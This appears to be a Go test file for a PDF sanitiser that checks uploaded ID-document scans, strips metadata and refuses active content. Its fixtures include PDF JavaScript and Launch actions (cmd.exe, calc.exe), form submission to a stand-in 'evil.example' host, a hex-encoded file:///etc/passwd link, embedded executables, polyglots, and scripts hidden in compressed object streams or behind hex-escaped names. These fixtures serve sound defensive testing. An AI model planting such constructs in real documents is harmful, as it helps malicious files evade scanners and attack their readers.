package inspect

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"

	"github.com/privacyloket/privacyloket/shared/idcheck"
)

func TestInspectPDFAccepts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		data  []byte
		pages int
	}{
		{"one page", buildPDF(pdfSpec{}), 1},
		{"two pages", buildPDF(pdfSpec{pages: 2}), 2},
		{"the page limit", buildPDF(pdfSpec{pages: idcheck.MaxPDFPages}), idcheck.MaxPDFPages},
		{"pdf 1.4 header", buildPDF(pdfSpec{header: "%PDF-1.4"}), 1},
		{"open action to a page", buildPDF(pdfSpec{catalog: "/OpenAction [5 0 R /Fit]"}), 1},
		{"open action goto", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}), 1},
		{"link annotation to a web page", buildPDF(pdfSpec{
			page:  "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.rijksoverheid.nl/kopieid) >> >>"},
		}), 1},
		{"fonts named like active keys", buildPDF(pdfSpec{resources: "/XObject << /AA 6 0 R /JS 6 0 R /EF 6 0 R >>",
			extra: []string{streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))},
		}), 1},
		{"trailing white space and NULs after %%EOF", append(buildPDF(pdfSpec{}), "\r\n\x00\x00 \n"...), 1},
		{"scan-to-pdf of a jpeg", scannedPDF(t), 1},
		{"object and xref streams", objStmPDF(t, "<< /S /GoTo /D [5 0 R /Fit] >>"), 1},
		// Names and text that only look like active content
		// (pdfcpu's VectorApple.pdf, pdf.js's annotation-freetext.pdf).
		{"blend mode named like a screen annotation", buildPDF(pdfSpec{resources: "/ExtGState << /GS1 << /Type /ExtGState /BM /Screen /CA 1 >> >>"}), 1},
		{"comment with rich text", buildPDF(pdfSpec{page: "/Annots [6 0 R]", extra: []string{freeTextAnnot}}), 1},
		{"comment with rich text in an object stream", objStmPDFWith(t, "", "/Annots [6 0 R]", freeTextAnnot), 1},
		{"link whose address has /Launch in its path", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/Launch/JavaScript/EmbeddedFiles) >> >>"}}), 1},
		{"title naming active content", buildPDF(pdfSpec{extra: []string{"<< /Title (/JavaScript and /Launch explained) >>"}, trailer: "/Info 6 0 R"}), 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			doc, err := Inspect(tt.data)
			if err != nil {
				t.Fatalf("Inspect() = %v", err)
			}
			if got, want := doc.Kind, idcheck.KindPDF; got != want {
				t.Errorf("Kind = %q, want %q", got, want)
			}
			if got, want := doc.Pages, tt.pages; got != want {
				t.Errorf("Pages = %d, want %d", got, want)
			}
			if !bytes.HasPrefix(doc.Data, []byte("%PDF-")) {
				t.Errorf("sanitised PDF does not start with %%PDF-")
			}
			// The rewritten file must itself pass, with the same pages.
			again, err := Inspect(doc.Data)
			if err != nil {
				t.Fatalf("sanitised PDF refused: %v", err)
			}
			if got, want := again.Pages, tt.pages; got != want {
				t.Errorf("sanitised PDF has %d pages, want %d", got, want)
			}
		})
	}
}

// freeTextAnnot is a comment whose rich text (/RC) is XHTML, as Acrobat
// writes it.
const freeTextAnnot = `<< /Type /Annot /Subtype /FreeText /Rect [50 50 300 100] /Contents (Kopie) /DA (/Helv 12 Tf 0 g) ` +
	`/RC (<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml" xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/" ` +
	`xfa:APIVersion="Acrobat:11.0.0" xfa:spec="2.0.2"><p>Kopie</p></body>) >>`

// scannedPDF is a JPEG placed on an A4 page by pdfcpu, like a scanner app's
// output, so the check is not only tried on PDFs written by buildPDF.
func scannedPDF(t *testing.T) []byte {
	t.Helper()
	var out bytes.Buffer
	conf := pdfConfig()
	if err := api.ImportImages(context.Background(), nil, &out, []io.Reader{bytes.NewReader(encodeJPEG(t, noisy(800, 600)))}, nil, conf); err != nil {
		t.Fatalf("build scanned PDF: %v", err)
	}
	return out.Bytes()
}

func TestInspectPDFStripsMetadata(t *testing.T) {
	t.Parallel()
	const secret = "Jan Jansen"
	xmp := []byte(`<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>` + secret + `</dc:creator></x:xmpmeta><?xpacket end="w"?>`)
	in := buildPDF(pdfSpec{
		catalog: "/Metadata 6 0 R",
		page:    "/PieceInfo << /Illustrator << /Private 7 0 R >> >>",
		extra: []string{
			streamObject("/Type /Metadata /Subtype /XML", xmp),
			streamObject("", []byte("original unmasked page by "+secret)),
			"<< /Author (" + secret + ") /Title (Paspoort " + secret + ") /Producer (KopieID) >>",
		},
		trailer: "/Info 8 0 R",
	})
	if got := bytes.Count(in, []byte(secret)); got != 4 {
		t.Fatalf("fixture holds the secret %d times, want 4", got)
	}
	doc, err := Inspect(in)
	if err != nil {
		t.Fatalf("Inspect() = %v", err)
	}
	for _, banned := range []string{secret, "xmpmeta", "PieceInfo", "KopieID"} {
		if bytes.Contains(doc.Data, []byte(banned)) {
			t.Errorf("sanitised PDF still contains %q", banned)
		}
	}
}

func TestInspectPDFRefuses(t *testing.T) {
	t.Parallel()
	good := buildPDF(pdfSpec{})
	withoutEOF := bytes.TrimSuffix(good, []byte("%%EOF\n"))
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"encrypted with a user password", encryptedPDF(t, "geheim"), idcheck.CodePDFEncrypted},
		{"encrypted with an empty user password", encryptedPDF(t, ""), idcheck.CodePDFEncrypted},
		{"encrypt entry in the trailer", buildPDF(pdfSpec{trailer: "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"}), idcheck.CodePDFEncrypted},

		{"javascript open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
		{"javascript name tree", buildPDF(pdfSpec{catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
			extra: []string{"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"}}), idcheck.CodePDFActiveContent},
		{"javascript in an indirect stream", buildPDF(pdfSpec{catalog: "/OpenAction 6 0 R",
			extra: []string{"<< /S /JavaScript /JS 7 0 R >>", streamObject("", []byte("app.alert(1)"))}}), idcheck.CodePDFActiveContent},
		{"name written with hex escapes", buildPDF(pdfSpec{catalog: "/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
		{"launch action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"}), idcheck.CodePDFActiveContent},
		{"launch in a link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (evil.exe) >> >>"}}), idcheck.CodePDFActiveContent},
		{"embedded file", buildPDF(pdfSpec{catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
			extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
				streamObject("/Type /EmbeddedFile", []byte("MZ payload"))}}), idcheck.CodePDFActiveContent},
		{"file attachment annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
				"<< /Type /Filespec /F (x.zip) >>"}}), idcheck.CodePDFActiveContent},
		{"page additional actions", buildPDF(pdfSpec{page: "/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"}), idcheck.CodePDFActiveContent},
		{"uri open action", buildPDF(pdfSpec{catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>"}), idcheck.CodePDFActiveContent},
		{"goto open action chaining a uri", buildPDF(pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next << /S /URI /URI (https://x.example) >> >>"}), idcheck.CodePDFActiveContent},
		{"rich media annotation", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}}), idcheck.CodePDFActiveContent},
		{"xfa form", buildPDF(pdfSpec{catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
			extra: []string{streamObject("", []byte("<xdp:xdp/>"))}}), idcheck.CodePDFActiveContent},
		{"submit form", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"}}), idcheck.CodePDFActiveContent},
		{"import data", buildPDF(pdfSpec{catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>"}), idcheck.CodePDFActiveContent},
		{"javascript: link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ( JaVa\\tScript:app.alert\\(1\\)) >> >>"}}), idcheck.CodePDFActiveContent},
		{"file: link", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <66696C653A2F2F2F6574632F706173737764> >> >>"}}), idcheck.CodePDFActiveContent},
		{"rich text with a script", buildPDF(pdfSpec{page: "/Annots [6 0 R]",
			extra: []string{strings.Replace(freeTextAnnot, "<p>", "<p><script>alert(1)</script>", 1)}}), idcheck.CodePDFActiveContent},
		{"associated embedded file", buildPDF(pdfSpec{catalog: "/AF [6 0 R]",
			extra: []string{"<< /Type /Filespec /F (a.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>",
				streamObject("/Subtype /text#2Fxml", []byte("<a/>"))}}), idcheck.CodePDFActiveContent},
		{"javascript in an object missing from the xref", buildPDF(pdfSpec{orphan: "<< /S /JavaScript /JS (app.alert(1)) >>"}), idcheck.CodePDFActiveContent},
		{"javascript hidden in an object stream", objectStreamPDF(t), idcheck.CodePDFActiveContent},

		{"polyglot with a zip appended", append(bytes.Clone(good), zipArchive(t)...), idcheck.CodePDFActiveContent},
		{"polyglot with html appended", append(bytes.Clone(good), "<html><script>alert(1)</script></html>"...), idcheck.CodePDFActiveContent},
		{"polyglot with a zip inside a stream", buildPDF(pdfSpec{extra: []string{streamObject("", zipArchive(t))}}), idcheck.CodePDFActiveContent},
		{"polyglot with a jpeg appended", append(bytes.Clone(good), encodeJPEG(t, quadrants(200, 200))...), idcheck.CodePDFActiveContent},
		{"polyglot with a png signature in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (\x89PNG\r\n\x1a\n) >>"}}), idcheck.CodePDFActiveContent},
		{"polyglot with upper-case html appended", append(bytes.Clone(good), "\n<HTML><SCRIPT>alert(1)</SCRIPT>"...), idcheck.CodePDFActiveContent},
		{"polyglot with html in a dictionary", buildPDF(pdfSpec{extra: []string{"<< /X (<script>alert(1)</script>) >>"}}), idcheck.CodePDFActiveContent},

		{"too many pages", buildPDF(pdfSpec{pages: idcheck.MaxPDFPages + 1}), idcheck.CodePDFTooManyPages},

		{"header only", []byte("%PDF-1.7\n"), idcheck.CodePDFCorrupt},
		{"header and eof", []byte("%PDF-1.7\n%%EOF\n"), idcheck.CodePDFCorrupt},
		{"no %%EOF", withoutEOF, idcheck.CodePDFCorrupt},
		{"junk after %%EOF", append(bytes.Clone(good), "trailing junk"...), idcheck.CodePDFCorrupt},
		{"truncated", good[:len(good)/2], idcheck.CodePDFCorrupt},
		{"stream never ends", []byte("%PDF-1.7\n1 0 obj\n<< /Length 99 >>\nstream\n/JavaScript\n%%EOF\n"), idcheck.CodePDFCorrupt},
		{"no pages", []byte(strings.Join([]string{"%PDF-1.7", "1 0 obj", "<< /Type /Catalog /Pages 2 0 R >>", "endobj",
			"2 0 obj", "<< /Type /Pages /Kids [] /Count 0 >>", "endobj", "xref", "0 3", "0000000000 65535 f ",
			"0000000009 00000 n ", "0000000058 00000 n ", "trailer", "<< /Size 3 /Root 1 0 R >>", "startxref", "110", "%%EOF", ""}, "\n")), idcheck.CodePDFCorrupt},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			doc, err := Inspect(tt.data)
			if got, want := rejectionCode(t, err), tt.want; got != want {
				t.Errorf("Inspect() code = %q, want %q", got, want)
			}
			if doc != nil {
				t.Errorf("Inspect() returned a document alongside a refusal")
			}
		})
	}
}

// TestWalkFindsWhatTheByteScanCannot proves the second layer on its own: in
// an object stream the action is compressed, so only the parsed walk sees it.
func TestWalkFindsWhatTheByteScanCannot(t *testing.T) {
	t.Parallel()
	hidden := objectStreamPDF(t)
	if got := scanPDFBytes(hidden); got != "" {
		t.Fatalf("scanPDFBytes() = %q: the fixture's script is not hidden", got)
	}
	if _, err := Inspect(hidden); rejectionCode(t, err) != idcheck.CodePDFActiveContent {
		t.Errorf("Inspect() = %v, want %s", err, idcheck.CodePDFActiveContent)
	}
}

// TestWalkPDF checks the parsed walk without pdfcpu's validation in front of
// it, which would already refuse some of these as malformed.
func TestWalkPDF(t *testing.T) {
	t.Parallel()
	uriAction := "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /URI /URI (https://x.example) >> >> >>"
	tests := []struct {
		name string
		spec pdfSpec
		want string
	}{
		{"plain", pdfSpec{}, ""},
		{"resource names that look like active keys", pdfSpec{resources: "/XObject << /AA 6 0 R /JS 6 0 R /EF 6 0 R /Screen 6 0 R >>",
			extra: []string{streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))}}, ""},
		{"resource category stored as its own object", pdfSpec{resources: "/XObject 6 0 R",
			extra: []string{"<< /AA 7 0 R /JS 7 0 R >>", streamObject("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", []byte("0 0 m"))}}, ""},
		{"annotation posing as a font dictionary", pdfSpec{resources: "/Font << /F1 3 0 R >> /XObject 6 0 R",
			page: "/Annots [6 0 R]", extra: []string{uriAction}}, idcheck.CodePDFActiveContent},
		{"annotation posing as a font with escaped keys", pdfSpec{resources: "/XObject 6 0 R",
			page: "/Annots [6 0 R]", extra: []string{strings.NewReplacer("/Subtype", "/Sub#74ype", "/Type", "/T#79pe").Replace(uriAction)}}, idcheck.CodePDFActiveContent},
		{"additional actions", pdfSpec{page: "/AA << /O << /S /URI /URI (https://x.example) >> >>"}, idcheck.CodePDFActiveContent},
		{"named open action", pdfSpec{catalog: "/OpenAction << /S /Named /N /Print >>"}, idcheck.CodePDFActiveContent},
		{"open action without a type", pdfSpec{catalog: "/OpenAction << /D [5 0 R /Fit] >>"}, idcheck.CodePDFActiveContent},
		{"goto open action", pdfSpec{catalog: "/OpenAction << /S /GoTo /D [5 0 R /Fit] >>"}, ""},
		{"3D annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"}}, idcheck.CodePDFActiveContent},
		{"sound action as a name value", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound >> >>"}}, idcheck.CodePDFActiveContent},
		{"action type by reference", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 7 0 R /F (calc.exe) >> >>", "/Launch"}}, idcheck.CodePDFActiveContent},
		{"screen annotation", pdfSpec{page: "/Annots [6 0 R]", extra: []string{"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"}}, idcheck.CodePDFActiveContent},
		{"file specification with an embedded file", pdfSpec{catalog: "/Foo 6 0 R", extra: []string{"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", streamObject("", []byte("MZ"))}}, idcheck.CodePDFActiveContent},
		{"blend mode /Screen", pdfSpec{resources: "/ExtGState << /GS1 << /BM /Screen >> >>"}, ""},
		{"a sound as a resource name", pdfSpec{resources: "/ExtGState << /Sound << /BM /Normal >> >>"}, ""},
		{"usage rights allowing embedded files", pdfSpec{catalog: "/Perms << /UR3 6 0 R >>", extra: []string{
			"<< /Type /Sig /Reference [<< /Type /SigRef /TransformMethod /UR3 /TransformParams << /Type /TransformParams " +
				"/Annots [/Create /Delete /Modify] /Form [/FillIn] /EF [/Create /Delete /Modify /Import] /V /2.2 >> >>] >>"}}, ""},
		{"named destinations called like actions", pdfSpec{catalog: "/Dests << /JS [5 0 R /Fit] /AA [5 0 R /Fit] >>"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			ctx, err := pdfcpu.Read(context.Background(), bytes.NewReader(buildPDF(tt.spec)), pdfConfig())
			if err != nil {
				t.Fatal(err)
			}
			if got, want := walkPDF(ctx.XRefTable), tt.want; got != want {
				t.Errorf("walkPDF() = %q, want %q", got, want)
			}
		})
	}
}

// objectStreamPDF has a JavaScript open action stored only inside a
// compressed object stream.
func objectStreamPDF(t *testing.T) []byte {
	t.Helper()
	pdf := objStmPDF(t, "<< /S /JavaScript /JS (app.alert(1)) >>")
	if bytes.Contains(pdf, []byte("JavaScript")) || !bytes.Contains(pdf, []byte("/ObjStm")) {
		t.Fatal("the action is not hidden in a compressed object stream")
	}
	return pdf
}

// encryptedPDF is a one-page PDF encrypted with AES-256 by pdfcpu.
func encryptedPDF(t *testing.T, userPW string) []byte {
	t.Helper()
	conf := pdfConfig()
	conf.UserPW, conf.OwnerPW = userPW, "eigenaar"
	conf.EncryptUsingAES, conf.EncryptKeyLength = true, 256
	conf.Permissions = model.PermissionsPrint
	var out bytes.Buffer
	if err := api.Encrypt(context.Background(), bytes.NewReader(buildPDF(pdfSpec{})), &out, conf); err != nil {
		t.Fatalf("encrypt fixture: %v", err)
	}
	return out.Bytes()
}

// TestInspectPDFActiveAnnotationInObjectStream: an annotation whose action
// is a script, stored only inside a compressed object stream, is refused
// wherever the cross-reference data puts it, and nothing of it survives into
// a sanitised copy: not as an object, not inside any compressed stream.
func TestInspectPDFActiveAnnotationInObjectStream(t *testing.T) {
	t.Parallel()
	annots := map[string]string{
		"javascript action":    "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /JavaScript /JS (app.alert(1)) >> >>",
		"launch action":        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (calc.exe) >> >>",
		"escaped script names": "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
	}
	listings := map[string]hiddenListing{
		"listed in the xref stream": listedInXRefStream,
		"listed nowhere":            notListed,
		"hybrid file, /XRefStm":     hybridXRefStm,
	}
	for name, hidden := range annots {
		for lname, listing := range listings {
			t.Run(name+", "+lname, func(t *testing.T) {
				t.Parallel()
				pdf := objStmPDFListed(t, "", "/Annots [6 0 R]", hidden, listing)
				if bytes.Contains(pdf, []byte("JavaScript")) || bytes.Contains(pdf, []byte("Launch")) {
					t.Fatal("the action is not hidden in a compressed object stream")
				}
				if got := scanPDFBytes(pdf); got != "" {
					t.Fatalf("scanPDFBytes() = %q: the fixture's action is not hidden", got)
				}
				doc, err := Inspect(pdf)
				if listing == listedInXRefStream {
					if got, want := rejectionCode(t, err), idcheck.CodePDFActiveContent; got != want {
						t.Errorf("Inspect() code = %q, want %q", got, want)
					}
				}
				if doc == nil {
					return
				}
				// Unlisted, the object does not exist for pdfcpu: the
				// copy may pass, but without it.
				for _, s := range append(inflatedStreams(doc.Data), doc.Data) {
					if bytes.Contains(s, []byte("JavaScript")) || bytes.Contains(s, []byte("Launch")) || bytes.Contains(s, []byte("J#")) {
						t.Errorf("the hidden action survived sanitising: %q", s)
					}
				}
			})
		}
	}
}

// TestCheckRewrittenPDF: the last check judges the rewritten file on its
// own, and a rewritten file never carries an object stream, whose contents
// only a parser that unpacks it would see.
func TestCheckRewrittenPDF(t *testing.T) {
	t.Parallel()
	doc, err := Inspect(buildPDF(pdfSpec{pages: 2}))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(doc.Data, []byte("/ObjStm")) {
		t.Errorf("sanitised PDF has an object stream")
	}
	if got := checkRewrittenPDF(context.Background(), doc.Data); got != "" {
		t.Errorf("checkRewrittenPDF(sanitised) = %q, want accepted", got)
	}
	harmless := objStmPDFWith(t, "", "/Annots [6 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>")
	if got := checkRewrittenPDF(context.Background(), harmless); got != idcheck.CodePDFActiveContent {
		t.Errorf("checkRewrittenPDF(file with an object stream) = %q, want %q", got, idcheck.CodePDFActiveContent)
	}
}

// TestInspectPDFRefusesHugeObjectNumbers: pdfcpu's writer walks every
// object number up to the table's size, so a 300-byte file with one object
// numbered in the tens of millions cost 18 s and 6 GB (found by FuzzInspect).
func TestInspectPDFRefusesHugeObjectNumbers(t *testing.T) {
	t.Parallel()
	for name, pdf := range map[string][]byte{
		"object number": withUpdate(buildPDF(pdfSpec{}), 57777777, "<< >>"),
		"table size":    bytes.Replace(buildPDF(pdfSpec{}), []byte("/Size 6"), []byte("/Size 57777777"), 1),
		"dangling page": buildPDF(pdfSpec{catalog: "/Foo [57777777 0 R]"}),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			doc, err := heavy.inspect(context.Background(), pdf)
			if err == nil {
				// Accepted only if the rewrite kept the numbers small.
				if n := maxObjectNumber(t, doc.Data); n > maxPDFObjectNumber {
					t.Errorf("accepted, and the copy numbers an object %d", n)
				}
				return
			}
			if got := rejectionCode(t, err); got != idcheck.CodePDFCorrupt {
				t.Errorf("Inspect() code = %q, want %q", got, idcheck.CodePDFCorrupt)
			}
		})
	}
	// The fuzzer's own find: its sanitised copy numbered a page 57 777 777.
	fuzzed := []byte("%PDF-1.0\n1 0 obj<</Pages 2 0 R00endobj\n2 0 obj<</Kids[57777777 0 R]/Count 1 00endobj\n5 0 obj <<0/Type /Page /Parent 0 0 R0/MediaBox [0 0 0 0]0/Contents 6 0 R000endobj0xref\ntrailer0<<0/Size 00/Root 1 0 R0\nstartxref%%EOF")
	if doc, err := Inspect(fuzzed); err == nil {
		if n := maxObjectNumber(t, doc.Data); n > maxPDFObjectNumber {
			t.Errorf("accepted, and the copy numbers an object %d", n)
		}
	}
}

// maxObjectNumber is the highest object number or table size pdfcpu reads
// from pdf.
func maxObjectNumber(t *testing.T, pdf []byte) int {
	t.Helper()
	ctx, err := pdfcpu.Read(context.Background(), bytes.NewReader(pdf), pdfConfig())
	if err != nil {
		t.Fatalf("sanitised copy does not read: %v", err)
	}
	n := *ctx.Size - 1
	for nr := range ctx.Table {
		n = max(n, nr)
	}
	return n
}

// withUpdate appends an incremental update to pdf that adds object nr.
func withUpdate(pdf []byte, nr int, body string) []byte {
	prev := bytes.LastIndex(pdf, []byte("startxref\n"))
	var prevXref int
	fmt.Sscanf(string(pdf[prev+len("startxref\n"):]), "%d", &prevXref)
	var b bytes.Buffer
	b.Write(pdf)
	off := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", nr, body)
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", nr, off, nr+1, prevXref, xref)
	return b.Bytes()
}
